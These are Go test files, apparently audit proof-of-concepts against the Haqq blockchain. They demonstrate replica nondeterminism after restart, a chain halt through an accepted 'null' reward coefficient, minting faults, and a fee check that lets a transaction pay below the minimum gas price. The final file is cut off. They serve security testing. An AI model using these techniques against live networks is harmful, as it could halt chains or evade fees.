			{Length: 100, Amount: sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 500))}, // total 900 != 1000
		}
		vest := sdkvesting.Periods{
			{Length: 200, Amount: sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1000))},
		}
		va := vestingtypes.NewClawbackVestingAccount(base, funder, orig, start, lockup, vest, nil)
		require.False(t, eqCoins(va.LockupPeriods.TotalAmount(), va.OriginalVesting))
		haqq.AccountKeeper.SetAccount(ctx, va)
		addrs = append(addrs, accAddr)
	}

	// sanity: all N are broken before the upgrade
	broken := 0
	for _, a := range addrs {
		va := haqq.AccountKeeper.GetAccount(ctx, a).(*vestingtypes.ClawbackVestingAccount)
		if !eqCoins(va.LockupPeriods.TotalAmount(), va.OriginalVesting) {
			broken++
		}
	}
	require.Equal(t, zzNumAccounts, broken)

	err := v175.TurnOffLiquidVesting(ctx, haqq.BankKeeper, haqq.LiquidVestingKeeper, haqq.Erc20Keeper, *haqq.EvmKeeper, haqq.AccountKeeper)
	require.NoError(t, err)

	fixed := 0
	for _, a := range addrs {
		va, ok := haqq.AccountKeeper.GetAccount(ctx, a).(*vestingtypes.ClawbackVestingAccount)
		require.True(t, ok)
		if eqCoins(va.LockupPeriods.TotalAmount(), va.OriginalVesting) {
			fixed++
		}
	}
	t.Logf("GOMAXPROCS=%d NumCPU=%d workers=%d accounts=%d fixed_in_store=%d lost=%d",
		runtime.GOMAXPROCS(0), runtime.NumCPU(), runtime.NumCPU()*2-1, zzNumAccounts, fixed, zzNumAccounts-fixed)
	require.Equal(t, zzNumAccounts, fixed, "upgrade handler lost %d of %d vesting-account fixes (unsynchronised append)", zzNumAccounts-fixed, zzNumAccounts)
}
