package app_test

// Demonstration for property C01 (replicas agree on every block).
//
// Two replicas are built from the same genesis with the same configuration and are fed the same blocks.
// The only difference: replica "restarted" is stopped after block 1 is committed and started again from
// its own database (what every node operator does now and then); replica "continuous" keeps running.
//
//   block 1: empty
//   block 2: one transaction whose bytes do not decode (any proposer can put such bytes in a block;
//            the application accepts every proposal: NoOpMempool -> NoOpProcessProposal)
//   block 3: empty
//
// The property demands identical DeliverTx results, identical state (base fee) and app hash.

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	tmed25519 "github.com/cometbft/cometbft/crypto/ed25519"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/client/flags"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestZZHuntRestartedReplicaReportsOtherGasAndState(t *testing.T) {
	const chainID = utils.TestEdge2ChainID + "-3"

	validator := tmtypes.NewValidator(tmed25519.GenPrivKeyFromSecret([]byte("zz hunt validator")).PubKey(), 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})

	priv := &ethsecp256k1.PrivKey{Key: bytes.Repeat([]byte{1}, 32)}
	addr := sdk.AccAddress(priv.PubKey().Address().Bytes())
	genAccs := []authtypes.GenesisAccount{&haqqtypes.EthAccount{
		BaseAccount: authtypes.NewBaseAccount(addr, nil, 0, 0),
		CodeHash:    common.BytesToHash(evmtypes.EmptyCodeHash).Hex(),
	}}
	balance := banktypes.Balance{
		Address: addr.String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1_000_000, 18))),
	}

	// a block gas limit as on a live network, so that the EIP-1559 base fee reacts to the gas used in a block
	consParams := *app.DefaultConsensusParams
	consParams.Block = &tmproto.BlockParams{MaxBytes: 200000, MaxGas: 40_000_000}

	type replica struct {
		name string
		db   dbm.DB
		home string
		app  *app.Haqq
	}
	start := func(r *replica) {
		opts := simtestutil.AppOptionsMap{flags.FlagHome: r.home}
		r.app = app.NewHaqq(log.NewNopLogger(), r.db, nil, true, map[int64]bool{}, r.home, 0,
			encoding.MakeConfig(app.ModuleBasics), opts, baseapp.SetChainID(chainID))
	}
	replicas := []*replica{
		{name: "continuous", db: dbm.NewMemDB(), home: t.TempDir()},
		{name: "restarted", db: dbm.NewMemDB(), home: t.TempDir()},
	}
	genTime := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	var stateBytes []byte
	for i, r := range replicas {
		start(r)
		if i == 0 {
			gs := app.GenesisStateWithValSet(r.app, app.NewDefaultGenesisState(), valSet, genAccs, balance)
			var err error
			stateBytes, err = json.MarshalIndent(gs, "", " ")
			require.NoError(t, err)
		}
		r.app.InitChain(abci.RequestInitChain{
			Time: genTime, ChainId: chainID, InitialHeight: 1,
			ConsensusParams: &consParams, AppStateBytes: stateBytes,
		})
	}

	var lastHash []byte
	appHash := make([][]byte, len(replicas))
	// runBlock feeds the same block to both replicas and returns the DeliverTx responses per replica
	runBlock := func(height int64, txs ...[]byte) [][]abci.ResponseDeliverTx {
		header := tmproto.Header{
			ChainID: chainID, Height: height, Time: genTime.Add(time.Duration(height) * 6 * time.Second),
			ProposerAddress: validator.Address, ValidatorsHash: valSet.Hash(), NextValidatorsHash: valSet.Hash(), AppHash: lastHash,
		}
		out := make([][]abci.ResponseDeliverTx, len(replicas))
		for i, r := range replicas {
			r.app.BeginBlock(abci.RequestBeginBlock{Hash: bytes.Repeat([]byte{byte(height)}, 32), Header: header})
			for _, tx := range txs {
				out[i] = append(out[i], r.app.DeliverTx(abci.RequestDeliverTx{Tx: tx}))
			}
			r.app.EndBlock(abci.RequestEndBlock{Height: height})
			appHash[i] = r.app.Commit().Data
		}
		lastHash = appHash[0]
		return out
	}
	baseFee := func(r *replica, height int64) string {
		ctx := r.app.BaseApp.NewContext(true, tmproto.Header{Height: height, ChainID: chainID})
		return r.app.FeeMarketKeeper.GetBaseFee(ctx).String()
	}
	blockGas := func(r *replica, height int64) uint64 {
		ctx := r.app.BaseApp.NewContext(true, tmproto.Header{Height: height, ChainID: chainID})
		return r.app.FeeMarketKeeper.GetBlockGasWanted(ctx)
	}

	// block 1: empty
	runBlock(1)
	require.Equal(t, appHash[0], appHash[1], "replicas agree after block 1")

	// the operator of the second node restarts it: same binary, same configuration, same database
	start(replicas[1])
	require.Equal(t, int64(1), replicas[1].app.LastBlockHeight())

	// block 2: one undecodable transaction
	res := runBlock(2, []byte("these bytes are not a transaction"))
	for i, r := range replicas {
		t.Logf("block 2 on %-10q: DeliverTx code=%d codespace=%s gasWanted=%d gasUsed=%d | block gas recorded by x/feemarket=%d | appHash=%X",
			r.name, res[i][0].Code, res[i][0].Codespace, res[i][0].GasWanted, res[i][0].GasUsed, blockGas(r, 2), appHash[i])
	}
	assert.Equal(t, res[0][0].Code, res[1][0].Code)
	assert.Equal(t, res[0][0].GasUsed, res[1][0].GasUsed,
		"ResponseDeliverTx.GasUsed (hashed into LastResultsHash) must be the same on every replica")
	assert.Equal(t, blockGas(replicas[0], 2), blockGas(replicas[1], 2), "x/feemarket state (block gas) must be the same on every replica")
	assert.Equal(t, appHash[0], appHash[1], "app hash after block 2 must be the same on every replica")

	// block 3: empty; its base fee is computed from the gas recorded for block 2
	runBlock(3)
	for i, r := range replicas {
		t.Logf("block 3 on %-10q: base fee=%s appHash=%X", r.name, baseFee(r, 3), appHash[i])
	}
	assert.Equal(t, baseFee(replicas[0], 3), baseFee(replicas[1], 3), "EIP-1559 base fee of block 3 must be the same on every replica")
	assert.Equal(t, appHash[0], appHash[1], "app hash after block 3 must be the same on every replica")
}
