package keeper_test

import (
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/coinomics/types"
)

// zzBond funds a fresh account and delegates 10_000_000 ISLM to the bonded genesis validator
// (same steps as the ginkgo "check mint calculations on regular year" spec), so that
// TotalBondedTokens = 10_000_001 ISLM.
func (suite *KeeperTestSuite) zzBond(delegatePower int64) {
	accKey, err := ethsecp256k1.GenerateKey()
	suite.Require().NoError(err)
	addr := sdk.AccAddress(accKey.PubKey().Address())

	fundAmount := sdk.TokensFromConsensusPower(100_000_000, sdk.DefaultPowerReduction)
	err = testutil.FundAccount(suite.ctx, suite.app.BankKeeper, addr, sdk.NewCoins(sdk.NewCoin(denomMint, fundAmount)))
	suite.Require().NoError(err)

	suite.Commit(1)

	delCoin := sdk.NewCoin(denomMint, sdk.TokensFromConsensusPower(delegatePower, sdk.DefaultPowerReduction))
	_, err = testutil.Delegate(suite.ctx, suite.app, accKey, delCoin, suite.validator)
	suite.Require().NoError(err)
}

// zzStepper drives keeper.EndBlocker directly, block after block, on one sdk.Context whose
// block time/height are advanced by hand. It returns the total-supply delta and the
// fee-collector balance delta of that single EndBlocker call.
type zzStepper struct {
	suite  *KeeperTestSuite
	ctx    sdk.Context
	t      time.Time
	height int64
}

func (z *zzStepper) step(dt time.Duration) (supplyDelta, feeDelta math.Int) {
	s := z.suite
	z.t = z.t.Add(dt)
	z.height++
	ctx := z.ctx.WithBlockTime(z.t).WithBlockHeight(z.height)

	feeAddr := s.app.AccountKeeper.GetModuleAddress("fee_collector")
	supplyBefore := s.app.BankKeeper.GetSupply(ctx, denomMint).Amount
	feeBefore := s.app.BankKeeper.GetBalance(ctx, feeAddr, denomMint).Amount

	s.app.CoinomicsKeeper.EndBlocker(ctx)

	supplyAfter := s.app.BankKeeper.GetSupply(ctx, denomMint).Amount
	feeAfter := s.app.BankKeeper.GetBalance(ctx, feeAddr, denomMint).Amount
	return supplyAfter.Sub(supplyBefore), feeAfter.Sub(feeBefore)
}

func (suite *KeeperTestSuite) zzSetEnabled(ctx sdk.Context, enabled bool) {
	p := suite.app.CoinomicsKeeper.GetParams(ctx)
	p.EnableCoinomics = enabled
	suite.app.CoinomicsKeeper.SetParams(ctx, p)
}

// TestZZReactivation : enable -> disable for 30 days -> re-enable.
// Specification: "nothing is minted while minting is disabled or on the first block after activation",
// "elapsed measured between consecutive block timestamps".
func (suite *KeeperTestSuite) TestZZReactivation() {
	suite.SetupTest()
	k := suite.app.CoinomicsKeeper

	suite.zzBond(10_000_000)
	bonded := suite.app.StakingKeeper.TotalBondedTokens(suite.ctx)
	suite.Require().Equal(math.NewIntWithDecimal(10_000_001, 18), bonded)
	suite.Require().True(k.GetParams(suite.ctx).EnableCoinomics)
	suite.Require().Equal(sdk.NewDecWithPrec(78, 1), k.GetParams(suite.ctx).RewardCoefficient)

	z := &zzStepper{suite: suite, ctx: suite.ctx, t: suite.ctx.BlockTime(), height: suite.ctx.BlockHeight()}
	suite.T().Logf("start: blockTime=%s PrevBlockTS=%s bonded=%s", z.t.UTC().Format(time.RFC3339), k.GetPrevBlockTS(z.ctx), bonded)

	const blk = 5 * time.Second

	// --- phase 1: enabled, 3 blocks 5 s apart
	var normal math.Int
	for i := 0; i < 3; i++ {
		sd, fd := z.step(blk)
		suite.T().Logf("enabled  block #%d (+5s): supplyDelta=%s feeCollectorDelta=%s PrevBlockTS=%s", i+1, sd, fd, k.GetPrevBlockTS(z.ctx))
		suite.Require().True(sd.IsPositive())
		suite.Require().Equal(sd, fd)
		if i > 0 {
			suite.Require().Equal(normal, sd, "every 5 s block mints the same")
		}
		normal = sd
	}
	// bonded * 7.8% * 5000ms / 31_536_000_000ms (2022 is not a leap year)
	expNormal := sdk.NewDecFromInt(bonded).Mul(sdk.NewDecWithPrec(78, 3)).Mul(sdk.NewDec(5000).Quo(sdk.NewDec(31536000000))).RoundInt()
	suite.T().Logf("normal 5 s mint = %s (formula: %s)", normal, expNormal)
	suite.Require().Equal(expNormal, normal)

	t1 := k.GetPrevBlockTS(z.ctx)

	// --- phase 2: disabled through params for 30 days of block time, one EndBlocker per 5 s block
	suite.zzSetEnabled(z.ctx, false)
	offBlocks := int((30 * 24 * time.Hour) / blk)
	offMint := math.ZeroInt()
	for i := 0; i < offBlocks; i++ {
		sd, _ := z.step(blk)
		offMint = offMint.Add(sd)
	}
	suite.T().Logf("disabled %d blocks (30 days): total supplyDelta=%s PrevBlockTS=%s (T1 was %s)", offBlocks, offMint, k.GetPrevBlockTS(z.ctx), t1)
	suite.Require().True(offMint.IsZero(), "nothing is minted while disabled")

	// --- phase 3: re-enable, next block 5 s later
	suite.zzSetEnabled(z.ctx, true)
	first, firstFee := z.step(blk)
	second, _ := z.step(blk)
	third, _ := z.step(blk)
	suite.T().Logf("re-enabled block #1 (+5s): supplyDelta=%s feeCollectorDelta=%s", first, firstFee)
	suite.T().Logf("re-enabled block #2 (+5s): supplyDelta=%s", second)
	suite.T().Logf("re-enabled block #3 (+5s): supplyDelta=%s", third)
	if normal.IsPositive() && first.IsPositive() {
		suite.T().Logf("ratio first-re-enabled / normal = %s", sdk.NewDecFromInt(first).Quo(sdk.NewDecFromInt(normal)))
	}

	// specification
	suite.Require().True(first.IsZero(), "first block after re-activation must not mint, minted %s (normal 5 s mint %s)", first, normal)
	suite.Require().Equal(normal, second, "second block after re-activation mints the normal 5 s amount")
	suite.Require().Equal(normal, third)
}

// TestZZReactivationFullBlocks : same scenario but through the full app BeginBlock/EndBlock/Commit
// (suite.CommitBlock), 30 disabled blocks one day apart.
func (suite *KeeperTestSuite) TestZZReactivationFullBlocks() {
	suite.SetupTest()
	k := suite.app.CoinomicsKeeper
	suite.zzBond(10_000_000)

	supply := func() math.Int { return suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount }
	commit := func(shiftSec uint64) math.Int {
		before := supply()
		suite.CommitBlock(shiftSec)
		return supply().Sub(before)
	}

	n1 := commit(5)
	n2 := commit(5)
	suite.T().Logf("enabled blocks (+5s): supplyDelta=%s, %s", n1, n2)
	suite.Require().Equal(n1, n2)

	suite.zzSetEnabled(suite.ctx, false)
	off := math.ZeroInt()
	for i := 0; i < 30; i++ {
		off = off.Add(commit(24 * 3600))
	}
	suite.T().Logf("disabled 30 blocks of 1 day: supplyDelta=%s", off)
	suite.Require().True(off.IsZero())

	suite.zzSetEnabled(suite.ctx, true)
	first := commit(5)
	second := commit(5)
	suite.T().Logf("re-enabled block #1 (+5s): supplyDelta=%s ; block #2 (+5s): supplyDelta=%s ; PrevBlockTS=%s", first, second, k.GetPrevBlockTS(suite.ctx))

	suite.Require().True(first.IsZero(), "first block after re-activation must not mint, minted %s (normal 5 s mint %s)", first, n1)
	// bonded amount is unchanged (rewards are not auto-compounded), so the normal amount is expected again
	suite.Require().Equal(n1, second)
}

// TestZZCapBlock : records what the block that reaches max supply mints (cap branch of MintAndAllocate,
// which switches EnableCoinomics off itself) and what the following blocks do.
func (suite *KeeperTestSuite) TestZZCapBlock() {
	suite.SetupTest()
	k := suite.app.CoinomicsKeeper
	suite.zzBond(10_000_000)

	z := &zzStepper{suite: suite, ctx: suite.ctx, t: suite.ctx.BlockTime(), height: suite.ctx.BlockHeight()}

	normal, _ := z.step(5 * time.Second)

	// max supply = current supply + 1.5 normal blocks -> 2nd block from here hits the cap
	cur := suite.app.BankKeeper.GetSupply(z.ctx, denomMint).Amount
	room := normal.MulRaw(3).QuoRaw(2)
	k.SetMaxSupply(z.ctx, sdk.NewCoin(denomMint, cur.Add(room)))

	b1, _ := z.step(5 * time.Second)
	suite.Require().True(k.GetParams(z.ctx).EnableCoinomics)
	b2, _ := z.step(5 * time.Second) // cap block
	enabledAfterCap := k.GetParams(z.ctx).EnableCoinomics
	tsAfterCap := k.GetPrevBlockTS(z.ctx)
	b3, _ := z.step(5 * time.Second) // disabled by the cap branch
	tsAfterB3 := k.GetPrevBlockTS(z.ctx)

	suite.T().Logf("normal=%s room=%s b1=%s capBlock=%s enabledAfterCap=%v PrevBlockTS(after cap)=%s b3=%s PrevBlockTS(after b3)=%s",
		normal, room, b1, b2, enabledAfterCap, tsAfterCap, b3, tsAfterB3)

	suite.Require().Equal(normal, b1)
	suite.Require().Equal(room.Sub(normal), b2, "cap block mints exactly the remaining room")
	suite.Require().False(enabledAfterCap)
	suite.Require().True(b3.IsZero())
	suite.Require().Equal(k.GetMaxSupply(z.ctx).Amount, suite.app.BankKeeper.GetSupply(z.ctx, denomMint).Amount)

	// re-enable at the cap: nothing can be minted any more
	suite.zzSetEnabled(z.ctx, true)
	r1, _ := z.step(5 * time.Second)
	r2, _ := z.step(5 * time.Second)
	suite.T().Logf("re-enabled at cap: r1=%s r2=%s enabled=%v", r1, r2, k.GetParams(z.ctx).EnableCoinomics)
	suite.Require().True(r1.IsZero())
	suite.Require().True(r2.IsZero())
}

var _ = types.ModuleName
