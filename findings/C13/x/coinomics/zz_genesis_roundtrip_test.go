package coinomics_test

import (
	"testing"
	"time"

	"cosmossdk.io/math"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	haqqtypes "github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/coinomics"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// TestZZGenesisRoundTrip : ExportGenesis(app A) -> InitGenesis(app B) -> ExportGenesis(app B).
func TestZZGenesisRoundTrip(t *testing.T) {
	chainID := haqqtypes.MainNetChainID + "-1"
	hdr := tmproto.Header{Height: 1, ChainID: chainID, Time: time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)}

	// --- app A: run the real EndBlocker twice so that PrevBlockTS is set by the module itself
	appA, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)
	ctxA := appA.BaseApp.NewContext(false, hdr)
	require.True(t, appA.CoinomicsKeeper.GetPrevBlockTS(ctxA).IsZero(), "fresh app: PrevBlockTS = 0")

	appA.CoinomicsKeeper.EndBlocker(ctxA)
	ctxA = ctxA.WithBlockHeight(2).WithBlockTime(hdr.Time.Add(5 * time.Second))
	appA.CoinomicsKeeper.EndBlocker(ctxA)

	wantTS := math.NewInt(hdr.Time.Add(5 * time.Second).UnixMilli())
	require.Equal(t, wantTS, appA.CoinomicsKeeper.GetPrevBlockTS(ctxA))

	exp1 := coinomics.ExportGenesis(ctxA, appA.CoinomicsKeeper)
	require.NoError(t, exp1.Validate())
	t.Logf("export #1 (app A): PrevBlockTs=%s MaxSupply=%s Params=%+v", exp1.PrevBlockTs, exp1.MaxSupply, exp1.Params)

	// --- app B: fresh instance, import export #1
	appB, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)
	ctxB := appB.BaseApp.NewContext(false, hdr)
	coinomics.InitGenesis(ctxB, appB.CoinomicsKeeper, appB.AccountKeeper, appB.StakingKeeper, *exp1)

	exp2 := coinomics.ExportGenesis(ctxB, appB.CoinomicsKeeper)
	t.Logf("export #2 (app B after InitGenesis(export #1)): PrevBlockTs=%s MaxSupply=%s Params=%+v", exp2.PrevBlockTs, exp2.MaxSupply, exp2.Params)

	// the other fields survive the round trip
	require.Equal(t, exp1.Params, exp2.Params)
	require.Equal(t, exp1.MaxSupply, exp2.MaxSupply)

	// same app, store value overwritten with a sentinel: InitGenesis leaves it untouched
	appB.CoinomicsKeeper.SetPrevBlockTS(ctxB, math.NewInt(42))
	coinomics.InitGenesis(ctxB, appB.CoinomicsKeeper, appB.AccountKeeper, appB.StakingKeeper, *exp1)
	t.Logf("same app, store preset to 42, after InitGenesis(export #1): PrevBlockTS=%s", appB.CoinomicsKeeper.GetPrevBlockTS(ctxB))
	require.Equal(t, math.NewInt(42), appB.CoinomicsKeeper.GetPrevBlockTS(ctxB), "InitGenesis does not write PrevBlockTS at all")

	// idempotence of export -> import -> export
	require.Equal(t, exp1.PrevBlockTs.String(), exp2.PrevBlockTs.String(), "PrevBlockTs lost in export/import cycle")
}
