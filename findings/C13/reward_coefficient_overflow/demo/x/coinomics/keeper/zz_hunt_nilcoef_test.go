package keeper_test

import (
	"strings"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/params"
	paramproposal "github.com/cosmos/cosmos-sdk/x/params/types/proposal"

	"github.com/haqq-network/haqq/x/coinomics/types"
)

// zzSubmitCoefficient runs a legacy ParameterChangeProposal for
// coinomics/RewardCoefficient through the real x/params proposal handler
// (the route registered in app.go for gov v1beta1 / MsgExecLegacyContent).
func (suite *KeeperTestSuite) zzSubmitCoefficient(value string) error {
	prop := paramproposal.NewParameterChangeProposal("coef", "coef", []paramproposal.ParamChange{
		paramproposal.NewParamChange(types.ModuleName, string(types.ParamStoreKeyRewardCoefficient), value),
	})
	if err := prop.ValidateBasic(); err != nil {
		return err
	}
	handler := params.NewParamChangeProposalHandler(suite.app.ParamsKeeper)
	return handler(suite.ctx, prop)
}

// Property: in each block with coinomics enabled the chain mints the formula amount
// (for all reward coefficients the parameter validation lets through).
// A coefficient the validation accepts must therefore never make EndBlock panic.
func (suite *KeeperTestSuite) TestZZHuntNullRewardCoefficient() {
	suite.SetupTest()
	suite.Require().True(suite.app.CoinomicsKeeper.GetParams(suite.ctx).EnableCoinomics)

	// two ordinary blocks: timestamp recorded, then a regular mint
	suite.CommitBlock(6)
	supplyBefore := suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount
	suite.CommitBlock(6)
	supplyAfter := suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount
	suite.Require().True(supplyAfter.GT(supplyBefore), "regular block mints")

	// governance passes {"subspace":"coinomics","key":"ParamStoreKeyRewardCoefficient","value":"null"}
	err := suite.zzSubmitCoefficient("null")
	if err != nil {
		// rejected by validation: property holds
		return
	}
	suite.T().Logf("proposal with value null was ACCEPTED by validateRewardCoefficient")

	// the chain must keep producing blocks (minting the formula amount, or nothing)
	suite.Require().NotPanics(func() { suite.CommitBlock(6) },
		"EndBlock panics after an accepted RewardCoefficient change: the chain is halted")
}

// Same property, arithmetic boundary: a coefficient accepted by validation whose
// formula amount is far above the remaining head-room must be clamped to the
// remainder (supply == max supply, minting switched off), not panic.
func (suite *KeeperTestSuite) TestZZHuntHugeRewardCoefficient() {
	suite.SetupTest()
	suite.CommitBlock(6)
	suite.CommitBlock(6)

	huge := "1" + strings.Repeat("0", 70) + ".0"
	err := suite.zzSubmitCoefficient("\"" + huge + "\"")
	if err != nil {
		return
	}
	suite.T().Logf("proposal with coefficient 1e70 was ACCEPTED")

	maxSupply := suite.app.CoinomicsKeeper.GetMaxSupply(suite.ctx).Amount
	suite.Require().NotPanics(func() { suite.CommitBlock(6) },
		"EndBlock panics instead of minting the remainder up to the cap")
	supply := suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount
	suite.Require().Equal(maxSupply.String(), supply.String(), "the crossing block mints the remainder")
	suite.Require().False(suite.app.CoinomicsKeeper.GetParams(suite.ctx).EnableCoinomics)
	_ = sdk.ZeroInt()
}
