package keeper_test

import (
	"fmt"
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/x/coinomics"
	"github.com/haqq-network/haqq/x/coinomics/types"
)

// commitBlockNoPanic runs one 6-second block and converts a panic of the block
// machinery into an error, so the assertion below can state the property.
func (suite *KeeperTestSuite) zzCommitBlockNoPanic() (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("EndBlock panicked: %v", r)
		}
	}()
	suite.CommitBlock(6)
	return nil
}

// Property C13: with coinomics enabled every block mints
// bonded x rewardCoefficient% x elapsed / year, and the configured maximum supply only
// ever clamps that amount. A genesis whose max supply is "practically unlimited"
// (2^256-1, the largest amount a Coin can carry; it passes GenesisState.Validate)
// must therefore mint exactly the formula amount.
func (suite *KeeperTestSuite) TestZZHuntUnlimitedMaxSupply() {
	suite.SetupTest()

	maxUint256 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))

	gs := types.DefaultGenesisState()
	gs.MaxSupply = sdk.NewCoin(gs.Params.MintDenom, sdkmath.NewIntFromBigInt(maxUint256))
	suite.Require().NoError(gs.Validate(), "genesis validation accepts this max supply")

	coinomics.InitGenesis(suite.ctx, suite.app.CoinomicsKeeper, suite.app.AccountKeeper, *suite.app.StakingKeeper.Keeper, *gs)
	suite.Require().True(suite.app.CoinomicsKeeper.GetParams(suite.ctx).EnableCoinomics)
	suite.Require().Equal(gs.MaxSupply, suite.app.CoinomicsKeeper.GetMaxSupply(suite.ctx))

	// first block after activation: records the timestamp, mints nothing
	suite.Require().NoError(suite.zzCommitBlockNoPanic())

	bonded := suite.app.StakingKeeper.TotalBondedTokens(suite.ctx)
	suite.Require().True(bonded.IsPositive())
	supplyBefore := suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount

	// expected mint of one regular 6s block in 2022 (365 days), 7.8%
	elapsed := sdk.NewDec(6000).Quo(sdk.NewDec(31536000000))
	expected := sdk.NewDecFromInt(bonded).Mul(sdk.NewDecWithPrec(78, 3)).Mul(elapsed).RoundInt()
	suite.Require().True(expected.IsPositive())

	err := suite.zzCommitBlockNoPanic()
	suite.Require().NoError(err, "a block with coinomics enabled and supply far below the cap must mint, not halt the chain")

	supplyAfter := suite.app.BankKeeper.GetSupply(suite.ctx, denomMint).Amount
	suite.Require().Equal(expected.String(), supplyAfter.Sub(supplyBefore).String(), "minted amount must be the formula amount")
	suite.Require().True(suite.app.CoinomicsKeeper.GetParams(suite.ctx).EnableCoinomics, "minting must stay on: the cap is not reached")
}
