package ante_test

// Witness for property C07 (first sentence):
//
//	"No transaction is accepted in a block with a fee below gas-limit times the
//	 network minimum gas price in the EVM denomination."
//
// Route under test: a plain Cosmos tx (bank MsgSend, SIGN_MODE_DIRECT) that carries the
// extension option ExtensionOptionDynamicFeeTx{MaxPriorityPrice: 0}. It is dispatched by
// ante.NewAnteHandler to newCosmosAnteHandler, where
//
//   - cosmos.MinGasPriceDecorator compares the DECLARED fee (feeTx.GetFee()) with
//     ceil(gasLimit x feemarket.MinGasPrice), but
//   - cosmos.DeductFeeDecorator deducts the fee returned by evmante.NewDynamicFeeChecker,
//     i.e. min(baseFee + MaxPriorityPrice, declaredFee/gas) x gas.
//
// Whenever baseFee < MinGasPrice the tx declares enough, is accepted by CheckTx and
// DeliverTx, and pays only baseFee x gas.
//
// Everything below goes through the real application: app.Setup (InitChain), BeginBlock,
// BaseApp.CheckTx and BaseApp.DeliverTx with the production ante handler wired in app.go.
// The fee actually paid is measured twice: sender balance delta (minus the amount sent)
// and fee-collector balance delta.

import (
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cosmos/cosmos-sdk/client"
	clienttx "github.com/cosmos/cosmos-sdk/client/tx"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

const (
	c07GasLimit  = uint64(200_000)
	c07Recipient = "haqq1hdr0lhv75vesvtndlh78ck4cez6esz8u2lk0hq"
)

// c07ProdMinGasPrice is the production default of the feemarket MinGasPrice param
// (app.MinGasPrices = 20e9 aISLM, app/gas.go). The test binary resets the default to 0
// in app/test_helpers.go, so it is set explicitly here.
var c07ProdMinGasPrice = sdk.NewDec(20_000_000_000)

type c07Chain struct {
	t    *testing.T
	app  *app.Haqq
	ctx  sdk.Context
	txc  client.TxConfig
	priv *ethsecp256k1.PrivKey
	addr sdk.AccAddress
}

// c07NewChain boots a chain with the given feemarket params, funds one account in block 1,
// commits it and opens block 3 (BeginBlock executed, so the feemarket BeginBlocker ran).
func c07NewChain(t *testing.T, mutate func(p *feemarkettypes.Params)) *c07Chain {
	t.Helper()

	fm := feemarkettypes.DefaultGenesisState()
	fm.Params.MinGasPrice = c07ProdMinGasPrice
	fm.Params.MinGasMultiplier = sdk.NewDecWithPrec(5, 1)
	if mutate != nil {
		mutate(&fm.Params)
	}

	privCons, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	consAddress := sdk.ConsAddress(privCons.PubKey().Address())

	chainID := utils.MainNetChainID + "-1"
	haqqApp, _ := app.Setup(false, fm, chainID)

	header := testutil.NewHeader(1, time.Now().UTC(), chainID, consAddress, nil, nil)
	ctx := haqqApp.BaseApp.NewContext(false, header)

	addr, priv := testutiltx.NewAccAddressAndKey()
	require.NoError(t, testutil.FundAccount(ctx, haqqApp.BankKeeper, addr,
